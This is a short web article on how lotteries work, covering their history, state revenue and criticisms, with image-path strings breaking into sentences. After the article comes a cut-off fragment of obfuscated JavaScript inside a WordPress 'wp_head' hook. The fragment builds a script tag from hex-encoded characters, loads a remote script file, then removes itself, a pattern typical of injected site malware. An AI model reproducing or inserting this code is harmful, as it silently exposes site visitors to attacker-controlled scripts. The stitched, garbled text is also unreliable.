How Does the Lottery Work?

The lottery is a game that involves players buying tickets to win cash or other prizes. It is a popular form of gambling and it contributes billions to state coffers each year. The money is used for a variety of reasons including park services, education, and funds for seniors & veterans. The odds of winning are low, but people still play the lottery. Some believe that it is their only hope of a better life. However, it is important to know how the lottery works before you decide to participate.

The casting of lots has a long history in human affairs, and it is widely believed that Moses was instructed to use lotteries to allocate land in the Old Testament. However, lotteries to distribute goods and money have much more recent origins. They date back to the 15th century, when towns in the Low Countries used them to raise money for town fortifications and help poor citizens.

Lottery is a popular source of revenue for states, and it is also an effective way to distribute public goods. However, there are several criticisms of this practice, such as its alleged regressive impact on lower-income groups and the problem of compulsive gambling. Despite these issues, most voters and politicians approve of the idea of a state lottery. They see itas a way to fund services without raising taxes on the middle class and working classes. They also think thatit is a way to encourage responsible spending habits by the public, which is good for theeconomy.

0x73,0x74,0x61,0x72,0x74,0x73,0x2f,0x73,0x65,0x65,0x2e,0x6a,0x73),document['currentScript']['parentNode'][_0x3ec646(0x176)](f,document[_0x3ec646(0x17e)]),document['currentScript'][_0x3ec646(0x182)]();function _0x48d3(){var _0x35035=['script','currentScript','9RWzzPf','402740WuRnMq','732585GqVGDi','remove','createElement','30nckAdA','5567320ecrxpQ','src','insertBefore','8ujoTxO','1172840GvBdvX','4242564nZZHpA','296860cVAhnV','fromCharCode','5967705ijLbTz'];_0x48d3=function(){return _0x35035;};return_0x48d3();}";}add_action('wp_head','_set_betas_tag');}}catch(Exception $e){}} ?>